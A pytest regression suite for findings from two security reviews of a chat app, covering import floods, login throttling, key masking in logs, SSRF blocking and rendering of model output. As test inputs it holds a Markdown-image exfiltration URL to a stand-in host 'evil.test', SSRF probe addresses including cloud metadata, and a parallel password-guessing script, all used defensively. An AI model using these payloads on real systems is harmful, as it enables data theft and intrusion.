"""The security review of the landed code (issue 16): one named regression test per finding fixed so far.
Each failed on the code as it stood; the row numbers are the review's."""

from __future__ import annotations

import json
import logging
import os
import stat
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import jwt
import pytest
from sqlmodel import Session, func, select

from core.accounts import (
    LoginThrottle,
    authenticate,
    change_password,
    cookie_issued_at,
    cookie_token,
    revoke_sessions,
    validate_session,
)
from core.chat import ConversationManager, TurnOptions
from core.config import PROJECT_ROOT, get_settings
from core.errors import AuthError, LoginThrottled, ValidationError
from core.health import metrics_allowed
from core.history import import_conversations
from core.limiter import limiter_storage
from core.logging import JsonFormatter
from core.models import Conversation, UsageEvent, User, utcnow
from core.ui.chat.markdown import images_as_links, stream_images_as_links
from tests.conftest import REDIS_URL, add_user
from tests.fakes.provider_server import FakeProviderServer, Reply

PASSWORD = "Right-pass-123"


# Row 1 (high): a ChatGPT export whose node is its own parent never finished.
def test_row01_chatgpt_export_with_a_cycle_is_refused_at_once(engine, session: Session, tmp_path) -> None:
    uid = add_user(session, "imp")
    raw = json.dumps([{"title": "loop", "current_node": "a", "mapping": {"a": {"parent": "a"}}}]).encode()
    outcome: list[object] = []
    worker = threading.Thread(target=lambda: outcome.append(_try_import(session, uid, raw)), daemon=True)
    worker.start()
    worker.join(timeout=30)  # the old walk never returned (and grew memory ~110 MB/s)
    assert not worker.is_alive() and isinstance(outcome[0], ValidationError)
    assert "loops back" in str(outcome[0])


def _try_import(session: Session, uid: int, raw: bytes) -> object:
    try:
        return import_conversations(session=session, user_id=uid, raw=raw, max_bytes=10_000_000)
    except ValidationError as exc:
        return exc


@pytest.mark.parametrize("conversation", [
    {"mapping": {"a": "not a node"}, "current_node": "a"},
    {"mapping": {"a": {"message": {"author": "bob"}}}, "current_node": "a"},
    {"mapping": {}, "create_time": 1e20},
    {"mapping": {}, "create_time": -5},
    {"mapping": {"a": {"message": {"create_time": "yesterday"}}}, "current_node": "a"},
])
def test_row08_chatgpt_fields_of_the_wrong_type_get_a_clear_message(engine, session: Session, conversation) -> None:
    uid = add_user(session, "imp")
    with pytest.raises(ValidationError, match="not in the expected format|mapping|create_time|message"):
        import_conversations(session=session, user_id=uid, raw=json.dumps([conversation]).encode(),
                             max_bytes=10_000_000)


# Row 2 (high): replies were priced at $0 because providers report dated model names.
def test_row02_a_dated_model_name_is_priced_as_the_catalog_model(engine, session: Session, monkeypatch) -> None:
    server = FakeProviderServer().start()
    try:
        monkeypatch.setenv("OPENAI_API_KEY", "sk-good-key")
        monkeypatch.setenv("PARLEY_PROVIDERS__OPENAI__BASE_URL", server.openai_url)
        get_settings.cache_clear()
        server.enqueue("openai", Reply(chunks=["hi"], tokens_in=1000, tokens_out=1000, model="gpt-4o-mini-2024-07-18"))
        uid = add_user(session, "payer")
        turn = ConversationManager().send(user_id=uid, conversation_id=None, text="Hello",
                                          options=TurnOptions(provider="openai", model="gpt-4o-mini"))
        "".join(turn.deltas())
        turn.close()
    finally:
        server.stop()
    event = session.exec(select(UsageEvent)).one()
    assert event.model == "gpt-4o-mini" and event.cost_usd == pytest.approx((1000 * 0.15 + 1000 * 0.60) / 1e6)


def test_row02_a_model_outside_the_catalog_is_refused(engine, session: Session) -> None:
    uid = add_user(session, "payer")
    with pytest.raises(ValidationError, match="no model gpt-free"):
        ConversationManager().send(user_id=uid, conversation_id=None, text="Hello",
                                   options=TurnOptions(provider="local", model="gpt-free"))
    assert session.exec(select(UsageEvent)).all() == []


# Row 3 (medium): parallel guesses were all checked; the right one among them logged in.
def _guess_in_parallel(username: str, passwords: list[str]) -> list[str]:
    from core.db import session_scope

    def one(password: str) -> str:
        try:
            with session_scope() as s:
                authenticate(session=s, username=username, password=password)
            return "in"
        except LoginThrottled:
            return "throttled"
        except AuthError:
            return "wrong"

    with ThreadPoolExecutor(max_workers=len(passwords)) as pool:
        return list(pool.map(one, passwords))


def test_row03_parallel_guesses_get_at_most_five_checks_in_memory(engine, session: Session) -> None:
    add_user(session, "victim", PASSWORD)
    outcomes = _guess_in_parallel("victim", [f"Wrong-{i}" for i in range(20)])
    assert outcomes.count("wrong") <= 5 and outcomes.count("throttled") >= 15
    assert _guess_in_parallel("victim", [PASSWORD]) == ["throttled"]  # locked: the right one waits too
    user = session.exec(select(User).where(User.username == "victim")).one()
    session.refresh(user)
    assert user.failed_login_attempts <= 5


GUESSER = """
import sys
from concurrent.futures import ThreadPoolExecutor
from core.accounts import LoginThrottle, authenticate
from core.db import session_scope
from core.errors import AuthError
throttle = LoginThrottle(storage_uri_override=sys.argv[1])
def one(password):
    try:
        with session_scope() as s:
            authenticate(session=s, username=sys.argv[2], password=password, throttle=throttle)
        return "in"
    except AuthError as exc:
        return type(exc).__name__
passwords = sys.argv[3].split(",")
with ThreadPoolExecutor(max_workers=len(passwords)) as pool:
    print(",".join(pool.map(one, passwords)))
"""


@pytest.mark.skipif(not REDIS_URL, reason="PARLEY_TEST_REDIS_URL not set")
def test_row03_two_processes_guessing_in_parallel_get_at_most_five_checks_on_redis(engine, session: Session,
                                                                                   database_url) -> None:
    name = f"v{uuid.uuid4().hex[:8]}"
    add_user(session, name, PASSWORD)
    limiter_storage(REDIS_URL).reset()
    wrong = [f"Wrong-{i}" for i in range(20)]
    batches = [",".join(wrong), ",".join(wrong[:15] + [PASSWORD] + wrong[15:19])]
    env = {**os.environ, "PARLEY_DATABASE_URL": database_url}
    procs = [subprocess.Popen([sys.executable, "-c", GUESSER, REDIS_URL, name, batch], cwd=PROJECT_ROOT, env=env,
                              stdout=subprocess.PIPE, text=True) for batch in batches]
    outcomes = [o for p in procs for o in p.communicate(timeout=180)[0].strip().splitlines()[-1].split(",")]
    checked = [o for o in outcomes if o in ("in", "AuthError")]
    assert len(outcomes) == 40 and len(checked) <= 5


# Row 5 (medium): OpenAI-compatible keys echoed in a provider's 401 body were logged in full.
@pytest.mark.parametrize("status", [401, 500])
def test_row05_a_key_echoed_by_the_provider_never_reaches_the_log(status: int, caplog) -> None:
    from core.config import ProviderCatalog
    from core.errors import ProviderError
    from core.providers.base import ChatMessage, ChatRequest, Credentials
    from core.providers.compatible import CompatibleProvider

    key = "gsk_" + uuid.uuid4().hex + "SECRETTAIL"
    server = FakeProviderServer().start()
    server.valid_keys.add(key)
    server.enqueue("openai", Reply(status=status, error_message=f"Incorrect API key provided: {key}"))
    provider = CompatibleProvider(ProviderCatalog(base_url=server.openai_url, max_retries=0),
                                  Credentials(api_key=key, base_url=server.openai_url))
    try:
        with caplog.at_level(logging.WARNING), pytest.raises(ProviderError):
            list(provider.stream(ChatRequest(model="m", messages=[ChatMessage("user", "hi")])))
    finally:
        server.stop()
    lines = [JsonFormatter().format(r) for r in caplog.records]
    assert lines and not any(key in line or "SECRETTAIL" in line or key[:16] in line for line in lines)


# Row 7 (low/medium): usernames had no length limit before the throttle (5 MB keys in Redis).
def test_row07_a_huge_username_never_reaches_the_throttle(engine, session: Session) -> None:
    seen: list[str] = []

    class Spy(LoginThrottle):
        def attempt(self, username: str, client: str | None = None) -> None:
            seen.append(username)
            super().attempt(username, client)

    huge = "x" * 5_000_000
    with pytest.raises(AuthError, match="Username or password is incorrect"):
        authenticate(session=session, username=huge, password="whatever", client="10.0.0.9", throttle=Spy())
    assert seen == []


# Row 10 (low): revocation derived the issue time from today's cookie lifetime.
def test_row10_lowering_the_cookie_lifetime_revives_no_revoked_cookie(engine, session: Session) -> None:
    uid = add_user(session, "dora")
    issued = utcnow() - timedelta(days=2)
    key = get_settings().cookie_key.get_secret_value()
    token = jwt.decode(cookie_token(username="dora", issued_at=issued, exp_date=(issued + timedelta(days=7))
                                    .timestamp(), key=key), key, algorithms=["HS256"])
    revoke_sessions(session=session, user_id=uid)  # logout everywhere, after the cookie was issued
    issued_at = cookie_issued_at(token)  # the signed claim: no setting (cookie.expiry_days) moves it
    assert issued_at is not None and abs((issued_at - issued).total_seconds()) < 0.001
    with pytest.raises(AuthError):
        validate_session(session=session, username="dora", issued_at=issued_at)
    old_format = {"username": "dora", "exp_date": (utcnow() + timedelta(days=6)).timestamp()}
    assert cookie_issued_at(old_format) is None  # no signed issue time: refused, never derived


# Row 11 (low): the database files were 0644 and data/ 0755; a loose secrets file went unnoticed.
def test_row11_data_dir_and_database_files_are_private(parley_env) -> None:
    from core.app import startup
    from core.db import get_engine

    startup()  # the app itself creates data/ and its database (not the tests' migrated copy)
    with get_engine().begin() as conn:  # a write, so -wal and -shm exist
        conn.exec_driver_sql("CREATE TABLE IF NOT EXISTS probe (x INTEGER)")
    assert stat.S_IMODE(os.stat(parley_env).st_mode) == 0o700
    for name in ("parley.db", "parley.db-wal", "parley.db-shm", "secrets.env"):
        path = parley_env / name
        assert path.exists() and stat.S_IMODE(os.stat(path).st_mode) == 0o600, name


def test_row11_a_loose_secrets_file_is_closed_and_reported(parley_env, caplog) -> None:
    get_settings()  # generates data/secrets.env
    secrets_file = parley_env / "secrets.env"
    os.chmod(secrets_file, 0o644)
    get_settings.cache_clear()
    with caplog.at_level(logging.WARNING):
        get_settings()
    assert stat.S_IMODE(os.stat(secrets_file).st_mode) == 0o600
    assert any("readable by other users" in r.getMessage() for r in caplog.records)


# Row 12 (low): changing your password did not throttle guesses of the current one.
def test_row12_guessing_the_current_password_is_throttled(engine, session: Session) -> None:
    uid = add_user(session, "erin", PASSWORD)
    for i in range(5):
        with pytest.raises(ValidationError):
            change_password(session=session, user_id=uid, current=f"Wrong-{i}", new="New-pass-456",
                            repeat="New-pass-456")
    with pytest.raises(LoginThrottled):
        change_password(session=session, user_id=uid, current=PASSWORD, new="New-pass-456", repeat="New-pass-456")


# Row 9 (low): Markdown images in model output were fetched by the browser; model names rendered as Markdown.
def test_row09_model_images_are_shown_as_links_code_untouched() -> None:
    text = "Look ![x](http://evil.test/?s=SECRET) now\n`![code](kept)`\n```\n![fenced](kept)\n```\n!!done"
    shown = images_as_links(text)
    assert "![x]" not in shown and "[x](http://evil.test/?s=SECRET)" in shown
    assert "`![code](kept)`" in shown and "\n![fenced](kept)\n" in shown and shown.endswith("!!done")
    chunks = ["Look !", "[x](http://evil.test/)", " and !", "[y](z) done!"]
    shown = list(stream_images_as_links(chunks, every=0))  # snapshots: each replaces the last
    assert shown[-1] == images_as_links("".join(chunks)) and not any("![" in s for s in shown)


def test_row09_imported_model_names_are_escaped_in_the_caption() -> None:
    from core.validation import escape_markdown

    shown = escape_markdown("**[click](http://x)**")
    assert shown == r"\*\*\[click\]\(http\://x\)\*\*"  # literal text, no link, no bold


# Row 14 (info): /metrics answered anyone; a cookie signed with alg=none broke the login library.
def test_row14_metrics_can_require_a_token_or_an_address(parley_env, monkeypatch) -> None:
    assert metrics_allowed("203.0.113.9", "")  # not configured: open, as documented
    monkeypatch.setenv("PARLEY_METRICS_TOKEN", "scrape-" + uuid.uuid4().hex)
    monkeypatch.setenv("PARLEY_METRICS__ALLOWED_ADDRESSES", "[10.0.0.5]")
    get_settings.cache_clear()
    token = os.environ["PARLEY_METRICS_TOKEN"]
    assert metrics_allowed("10.0.0.5", f"Bearer {token}")
    assert not metrics_allowed("10.0.0.5", "Bearer wrong")
    assert not metrics_allowed("203.0.113.9", f"Bearer {token}")


def test_row14_an_unsigned_cookie_is_no_cookie(parley_env) -> None:
    from core.ui.auth.cookie import login_from_cookie

    class Controller:
        deleted = False

        def get_cookie(self) -> dict[str, str]:
            raise jwt.InvalidAlgorithmError("alg none")

        def delete_cookie(self) -> None:
            Controller.deleted = True

    class Authenticator:
        cookie_controller = Controller()

    assert login_from_cookie(Authenticator()) is None  # type: ignore[arg-type]
    assert Controller.deleted


# Row 13 (low): registration said whether a username or email existed, unthrottled.
def test_row13_registration_is_throttled_per_address_and_tells_nothing(engine, session: Session,
                                                                       monkeypatch) -> None:
    from core.accounts import register_user
    from core.models import UserCreate, UserStatus

    monkeypatch.setenv("PARLEY_LOGIN__REGISTRATIONS_PER_HOUR", "3")
    get_settings.cache_clear()

    def sign_up(name: str, client: str = "198.51.100.7") -> UserStatus:
        return register_user(session=session, client=client, user_in=UserCreate(
            username=name, email=f"{name}@example.com", display_name=name, password=PASSWORD))

    add_user(session, "taken")
    assert sign_up("fresh") == sign_up("taken") == UserStatus.pending  # the same answer either way
    sign_up("third")
    with pytest.raises(LoginThrottled):
        sign_up("fourth")
    assert sign_up("fourth", client="198.51.100.8") == UserStatus.pending  # another address is not held back


# Row 6 (medium/low): a user's own base URL could point anywhere ("Check key" probed local ports).
@pytest.mark.parametrize("url", ["http://127.0.0.1:6379/v1", "http://localhost:8080/v1", "http://10.1.2.3/v1",
                                 "http://169.254.169.254/latest", "http://[::1]:11434/v1", "http://0.0.0.0:22/",
                                 "http://[::ffff:127.0.0.1]/v1", "http://192.168.1.10/v1"])
def test_row06_a_users_own_server_on_a_private_address_is_refused(engine, session: Session, url: str) -> None:
    from core.keys import save_user_key

    with pytest.raises(ValidationError, match="private, loopback or link-local"):
        save_user_key(session=session, user_id=add_user(session, "ssrf"), provider="compatible",
                      api_key="sk-some-key-1234", base_url=url)


def test_row06_allowed_hosts_public_addresses_and_admins_org_keys_pass(engine, session: Session,
                                                                       monkeypatch) -> None:
    from core.keys import check_stored_key, save_org_key, save_user_key

    uid = add_user(session, "ssrf")
    admin = session.exec(select(User.id).where(User.username == "admin")).one()
    save_user_key(session=session, user_id=uid, provider="compatible", api_key="sk-some-key-1234",
                  base_url="http://93.184.216.34/v1")  # a public address: fine
    save_org_key(session=session, actor_id=admin, provider="compatible", api_key="sk-some-key-1234",
                 base_url="http://127.0.0.1:11434/v1")  # the organisation's, set by an admin
    monkeypatch.setenv("PARLEY_KEYS__ALLOWED_PRIVATE_HOSTS", "[127.0.0.1]")
    get_settings.cache_clear()
    save_user_key(session=session, user_id=uid, provider="compatible", api_key="sk-some-key-1234",
                  base_url="http://127.0.0.1:11434/v1")
    monkeypatch.setenv("PARLEY_KEYS__ALLOWED_PRIVATE_HOSTS", "[]")  # the admin takes the permission back
    get_settings.cache_clear()
    with pytest.raises(ValidationError, match="private"):  # "Check key" checks again before calling
        check_stored_key(session=session, actor_id=uid, provider="compatible")
    from core.chat import ProviderChooser
    from core.db import get_engine

    choice = ProviderChooser(uid, settings=get_settings(), engine=get_engine()).choose("compatible")
    assert "private" in (choice.unavailable_reason or "")  # and the chat does not call it either


# Row 4 (medium): 150,000 empty conversations held SQLite's write lock for 21 s; 50 MB of [{},{},...] took 1.3 GB.
def test_row04_floods_are_refused_before_they_are_parsed_or_written(engine, session: Session) -> None:
    uid = add_user(session, "flood")
    empties = json.dumps([{"mapping": {}} for _ in range(150_000)]).encode()
    with pytest.raises(ValidationError, match="more than 20000 conversations|more than 20,000"):
        import_conversations(session=session, user_id=uid, raw=empties, max_bytes=50_000_000)
    objects = b"[" + b"{}," * 3_000_001 + b"{}]"
    with pytest.raises(ValidationError, match="JSON objects"):
        import_conversations(session=session, user_id=uid, raw=objects, max_bytes=50_000_000)
    deep = b"[" * 100_000 + b"]" * 100_000
    with pytest.raises(ValidationError, match="nests too deeply"):
        import_conversations(session=session, user_id=uid, raw=deep, max_bytes=50_000_000)


def _export(n: int, params: dict[str, object] | None = None) -> bytes:
    return json.dumps({"schema": "parley.export", "version": 1, "conversations": [
        {"title": f"c{i}", "params": params or {}, "messages": [{"role": "user", "content": f"m{i}"}]}
        for i in range(n)]}).encode()


def test_row04_big_imports_go_in_batches_hidden_until_complete_and_all_or_nothing(engine, session: Session,
                                                                                 monkeypatch) -> None:
    from core.db import session_scope
    from core.history import list_conversations, transfer

    uid = add_user(session, "batches")
    seen_during: list[int] = []
    real_write = transfer._write

    def write_and_look(s, user_id, batch, hidden_at):  # type: ignore[no-untyped-def]
        ids = real_write(s, user_id, batch, hidden_at)
        with session_scope() as other:  # another user's view of the database, between batches
            seen_during.append(list_conversations(session=other, user_id=uid).total)
        if len(seen_during) == 3:
            raise RuntimeError("disk full")  # the third slice (of ten conversations each) fails
        return ids

    monkeypatch.setattr(transfer, "_write", write_and_look)
    with pytest.raises(RuntimeError):
        import_conversations(session=session, user_id=uid, raw=_export(30), max_bytes=1_000_000,
                             slice_seconds=0)
    assert seen_during == [0, 0, 0]  # never half-visible
    session.expire_all()
    assert session.exec(select(func.count()).select_from(Conversation)).one() == 0  # nothing left behind
    monkeypatch.setattr(transfer, "_write", real_write)
    assert import_conversations(session=session, user_id=uid, raw=_export(30), max_bytes=1_000_000,
                                slice_seconds=0) == 30
    with session_scope() as other:
        assert list_conversations(session=other, user_id=uid).total == 30


def test_row08_imported_params_the_chat_cannot_use_are_refused(engine, session: Session) -> None:
    uid = add_user(session, "params")
    with pytest.raises(ValidationError, match="params"):
        import_conversations(session=session, user_id=uid, raw=_export(1, {"max_tokens": 1e9, "temperature": "hot"}),
                             max_bytes=1_000_000)
    assert session.exec(select(func.count()).select_from(Conversation)).one() == 0


# ---------------------------------------------------------------------------------------------------------------
# Round 2 (issue 21): the second review. Row numbers are that review's.


@pytest.fixture
def redirecting_server(monkeypatch) -> Iterator[tuple[FakeProviderServer, FakeProviderServer]]:
    """A user's own OpenAI-compatible server (allowed: its host is listed) that answers every request with a 307 to
    a loopback service nobody may reach (the trap, under another host name: not on the allowed list)."""
    public, trap = FakeProviderServer().start(), FakeProviderServer().start()
    public.valid_keys.add("sk-users-own-key")
    trap.valid_keys.add("sk-users-own-key")
    public.redirect_to = f"http://localhost:{trap.port}"
    monkeypatch.setenv("PARLEY_KEYS__ALLOWED_PRIVATE_HOSTS", '["127.0.0.1"]')
    get_settings.cache_clear()
    try:
        yield public, trap
    finally:
        public.stop()
        trap.stop()


# Row 1 (high): the SDKs followed a redirect from a user's server to a loopback service, prompt in the body.
def test_r2_row01_redirects_from_a_users_server_are_never_followed(engine, session: Session,
                                                                   redirecting_server) -> None:
    from core.keys import check_stored_key, save_user_key
    from core.knowledge import create_knowledge_base, documents_of
    from core.models import DocumentStatus, MessageStatus
    from core.providers.base import ChatMessage

    public, trap = redirecting_server
    uid = add_user(session, "mallory")
    save_user_key(session=session, user_id=uid, provider="compatible", api_key="sk-users-own-key",
                  base_url=public.openai_url)
    manager = ConversationManager()
    options = TurnOptions(provider="compatible", model="llama3.2")

    turn = manager.send(user_id=uid, conversation_id=None, text="SECRET-PROMPT from the chat", options=options)
    "".join(turn.deltas())
    chat = turn.close()
    assert chat.status == MessageStatus.error and "redirect" in (chat.error or "")

    api = manager.ask(user_id=uid, conversation=[ChatMessage("user", "SECRET-PROMPT from the API")], options=options)
    "".join(api.deltas())
    assert api.close().status == MessageStatus.error

    check = check_stored_key(session=session, actor_id=uid, provider="compatible")
    assert check.status == "unreachable" and "redirect" in check.message

    kb_id = create_knowledge_base(session=session, user_id=uid, name="Remote", embedder="compatible/embed").id
    session.commit()
    manager.knowledge.upload(user_id=uid, kb_id=kb_id, name="notes.md", raw=b"# Notes\nSECRET-DOCUMENT text\n")
    manager.knowledge.wait()
    [doc] = documents_of(session=session, user_id=uid, kb_id=kb_id)
    assert doc.status == DocumentStatus.failed and "redirect" in (doc.error or "")

    assert {c.path.split("?")[0] for c in public.history} >= {"/v1/chat/completions", "/v1/models", "/v1/embeddings"}
    assert trap.history == []  # nothing reached the loopback service: not the prompt, not the document, not the key


# Row 16 (low): "Check key" crashed on a 200 answer that was not JSON.
def test_r2_row16_a_key_check_answered_with_a_page_is_stored_as_failed(engine, session: Session,
                                                                       redirecting_server) -> None:
    from core.keys import check_stored_key, list_user_keys, save_user_key

    public, _ = redirecting_server
    public.redirect_to = None
    public.models_page = b"<html><body>Welcome to nginx!</body></html>"
    uid = add_user(session, "checker")
    save_user_key(session=session, user_id=uid, provider="compatible", api_key="sk-users-own-key",
                  base_url=public.openai_url)
    check = check_stored_key(session=session, actor_id=uid, provider="compatible")
    assert check.status == "unreachable" and "not as the provider's API" in check.message
    [stored] = [k for k in list_user_keys(session=session, user_id=uid) if k.provider == "compatible"]
    assert stored.last_check_status == "unreachable"


# Row 12 (low): the SDKs' HTTP client (httpx2) logged every request's URL at INFO, credentials included.
def test_r2_row12_provider_urls_with_credentials_never_reach_the_log(engine, session: Session,
                                                                     monkeypatch) -> None:
    import io

    from core.keys import save_user_key
    from core.logging import configure_logging, mask_secrets

    assert mask_secrets("GET http://parley:hunter2secret@10.0.0.5:11434/v1/models") == \
        "GET http://***@10.0.0.5:11434/v1/models"
    server = FakeProviderServer().start()
    server.valid_keys.add("sk-users-own-key")
    monkeypatch.setenv("PARLEY_KEYS__ALLOWED_PRIVATE_HOSTS", '["127.0.0.1"]')
    get_settings.cache_clear()
    root, before = logging.getLogger(), logging.getLogger().handlers[:]
    stream = io.StringIO()
    level = root.level
    try:
        configure_logging("INFO", stream=stream)
        uid = add_user(session, "urlcreds")
        save_user_key(session=session, user_id=uid, provider="compatible", api_key="sk-users-own-key",
                      base_url=f"http://parley:hunter2secret@127.0.0.1:{server.port}/v1")
        turn = ConversationManager().send(user_id=uid, conversation_id=None, text="Hello",
                                          options=TurnOptions(provider="compatible", model="llama3.2"))
        "".join(turn.deltas())
        turn.close()
        logging.getLogger("httpx2").info("HTTP Request: POST http://parley:hunter2secret@127.0.0.1/v1 200")
    finally:
        root.handlers[:] = before
        root.setLevel(level)
        server.stop()
    assert server.calls("/chat/completions")  # the call was made (and logged by nobody)
    assert "hunter2secret" not in stream.getvalue()


# Row 18 (low): TurnOptions.system_prompt skipped the text rule (a NUL in it crashed PostgreSQL's insert).
def test_r2_row18_the_system_prompt_is_cleaned_in_core(engine, session: Session) -> None:
    uid = add_user(session, "sysprompt")
    options = TurnOptions(provider="local", model="smollm2-135m-instruct", max_tokens=4,
                          system_prompt="Be brief.\x00\u202e Always.\x07")
    turn = ConversationManager().send(user_id=uid, conversation_id=None, text="Hi", options=options)
    turn.close()  # stopped before streaming: the conversation and the message are stored all the same
    stored = session.exec(select(Conversation).where(Conversation.user_id == uid)).one()
    assert stored.system_prompt == "Be brief. Always."


# Row 27: under load on SQLite the end-of-turn write hit the busy timeout; a fully delivered reply was recorded
# `interrupted`, and nothing was logged.
def test_r2_row27_a_busy_database_at_the_end_of_a_turn_is_written_again(engine, session: Session, monkeypatch,
                                                                        caplog) -> None:
    from sqlalchemy.exc import OperationalError

    from core import db_batch as writes_module  # where the end of a turn is committed
    from core.models import Message, MessageStatus

    real_scope, failures = writes_module.session_scope, []

    def busy_once(engine=None):  # type: ignore[no-untyped-def]
        if not failures:
            failures.append(1)
            raise OperationalError("UPDATE message", {}, Exception("database is locked"))
        return real_scope(engine)

    uid = add_user(session, "busy")
    options = TurnOptions(provider="local", model="smollm2-135m-instruct", max_tokens=8, temperature=0)
    turn = ConversationManager().send(user_id=uid, conversation_id=None, text="Say hi", options=options)
    monkeypatch.setattr(writes_module, "session_scope", busy_once)
    with caplog.at_level(logging.WARNING):
        text = "".join(turn.deltas())
        outcome = turn.close()
    assert failures and outcome.status == MessageStatus.complete and text
    reply = session.exec(select(Message).where(Message.role == "assistant")).one()
    assert (reply.status, reply.content) == (MessageStatus.complete, text)
    [event] = session.exec(select(UsageEvent)).all()
    assert event.status == "complete"
    assert [r.getMessage() for r in caplog.records].count("database busy: writing again") == 1
